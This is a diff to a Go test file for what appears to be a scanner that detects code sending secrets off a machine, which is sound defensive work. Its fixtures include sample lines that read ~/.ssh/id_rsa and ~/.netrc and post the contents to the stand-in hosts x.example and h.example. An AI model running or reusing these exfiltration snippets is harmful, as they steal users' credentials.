@@ -20,10 +20,10 @@ func TestBounds(t *testing.T) {
 	t.Parallel()
 	var why []string
 	cut := func(_, what string) { why = append(why, what) }
-	if found := Find([]Text{text("a.py", crowd(maxTold/2))}, nil, nil, cut); len(found) != maxTold/2 || len(why) != 0 {
+	if found := Find([]Text{text("a.py", crowd(maxTold/2))}, nil, nil, cut).Besides; len(found) != maxTold/2 || len(why) != 0 {
 		t.Errorf("%d are found, and %q is told", len(found), why)
 	}
-	if found := Find([]Text{text("a.py", crowd(maxTold+5))}, nil, nil, cut); len(found) != maxTold || len(why) != 1 {
+	if found := Find([]Text{text("a.py", crowd(maxTold+5))}, nil, nil, cut).Besides; len(found) != maxTold || len(why) != 1 {
 		t.Errorf("%d are found, and %q is told", len(found), why)
 	}
 }
@@ -35,7 +35,7 @@ func TestLongStatement(t *testing.T) {
 	for lines, want := range map[int]string{maxLines / 2: "key:1 x.example:LINE body apart", maxLines + 5: "key:1 x.example:LINE body"} {
 		told := 0
 		source := "k = open('/home/me/.ssh/id_rsa').read()\nn = {\n" + strings.Repeat("  'a': 1,\n", lines) + "}\nrequests.post('https://x.example/', data=n)\n"
-		got := shownOf(Find([]Text{text("a.py", source)}, nil, nil, func(string, string) { told++ }))
+		got := shownOf(Find([]Text{text("a.py", source)}, nil, nil, func(string, string) { told++ }).Besides)
 		if want := strings.ReplaceAll(want, "LINE", fmt.Sprint(lines+4)); got != want || (told > 0) != (lines > maxLines) {
 			t.Errorf("%d lines: %q is found, want %q, and %d gaps are told", lines, got, want, told)
 		}
@@ -47,7 +47,7 @@ func TestPairs(t *testing.T) {
 	t.Parallel()
 	told := false
 	source := strings.Repeat("x=$(cat ~/.netrc)\ncurl -d \"$x\" https://h.example/\n", 500)
-	found := Find([]Text{text("a.sh", source)}, nil, nil, func(_, what string) { told = told || strings.Contains(what, fmt.Sprint(maxPairs)) })
+	found := Find([]Text{text("a.sh", source)}, nil, nil, func(_, what string) { told = told || strings.Contains(what, fmt.Sprint(maxPairs)) }).Besides
 	if !told || len(found) == 0 {
 		t.Errorf("told: %t, %d are found", told, len(found))
 	}
@@ -60,7 +60,7 @@ func TestWork(t *testing.T) {
 	for left, want := range map[int]string{maxWork: "key:1 x.example:3 body apart", 0: ""} {
 		told := 0
 		f := &finder{told: map[string]int{}, steps: steps{left: left}, cut: func(string, string) { told++ }}
-		f.look(unite([]Text{of}, nil, func(string, string) {}))
+		f.look(unite([]Text{of}, nil, func(string, string) {}), true)
 		if got := shownOf(f.found); got != want || (told > 0) != (left == 0) {
 			t.Errorf("with work for %d: %q is found, and %d gaps are told", left, got, told)
 		}
